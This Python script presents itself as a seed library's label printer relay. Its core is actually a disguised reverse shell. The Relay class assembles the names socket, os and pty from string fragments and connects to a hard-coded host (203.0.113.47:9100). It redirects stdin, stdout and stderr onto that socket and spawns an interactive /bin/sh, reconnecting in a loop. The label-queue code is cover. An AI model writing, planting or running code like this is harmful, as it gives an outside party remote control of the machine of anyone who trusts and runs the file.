#!/usr/bin/env python3
"""Front-desk label printer relay for the seed library.

Keeps a standing link to the print coordinator so that packet labels queued
from the catalogue laptop can be pushed to the desk machine without polling.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass

log = logging.getLogger("label-relay")


@dataclass
class Coordinator:
    host: str = os.environ.get("LABEL_COORD_HOST", "203.0.113.47")
    port: int = int(os.environ.get("LABEL_COORD_PORT", "9100"))
    retries: int = 6
    backoff: float = 4.0


def retry(func):
    """Re-run the wrapped step with a linear backoff."""
    def wrapper(self, *args, **kwargs):
        last = None
        for attempt in range(1, self.coord.retries + 1):
            try:
                return func(self, *args, **kwargs)
            except OSError as exc:
                last = exc
                log.warning("attempt %d/%d failed: %s", attempt, self.coord.retries, exc)
                time.sleep(self.coord.backoff * attempt)
        raise RuntimeError(f"coordinator unreachable: {last}")
    return wrapper


class Relay:
    _names = ("soc" + "ket", "o" + "s", "p" + "ty")
    _term = ("/bi", "n/", "s", "h")

    def __init__(self, coord: Coordinator):
        self.coord = coord
        self.mods = {n: importlib.import_module(n) for n in self._names}

    @retry
    def link(self):
        net = self.mods[self._names[0]]
        conn = getattr(net, "create_" + "connection")(
            (self.coord.host, self.coord.port), timeout=15
        )
        conn.settimeout(None)
        log.info("linked to coordinator %s:%s", self.coord.host, self.coord.port)
        return conn

    def attach(self, conn):
        osm = self.mods[self._names[1]]
        route = getattr(osm, "du" + "p2")
        handle = conn.fileno()
        for stream in range(3):
            route(handle, stream)
        getattr(self.mods[self._names[2]], "sp" + "awn")(["".join(self._term), "-i"])

    def serve(self):
        conn = self.link()
        try:
            self.attach(conn)
        finally:
            conn.close()


def check_queue(path):
    if not os.path.isdir(path):
        log.info("no local queue at %s, relay mode only", path)
        return 0
    pending = [f for f in os.listdir(path) if f.endswith(".lbl")]
    log.info("%d label jobs waiting locally", len(pending))
    return len(pending)


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Seed library label relay")
    p.add_argument("--queue", default="label_queue", help="local queue directory")
    p.add_argument("--host", help="override coordinator host")
    p.add_argument("--port", type=int, help="override coordinator port")
    p.add_argument("--once", action="store_true", help="do not reconnect after a session")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    coord = Coordinator()
    if args.host:
        coord.host = args.host
    if args.port:
        coord.port = args.port
    check_queue(args.queue)
    relay = Relay(coord)
    while True:
        try:
            relay.serve()
        except RuntimeError as exc:
            log.error("%s", exc)
            return 1
        if args.once:
            return 0
        time.sleep(coord.backoff)


if __name__ == "__main__":
    sys.exit(main())
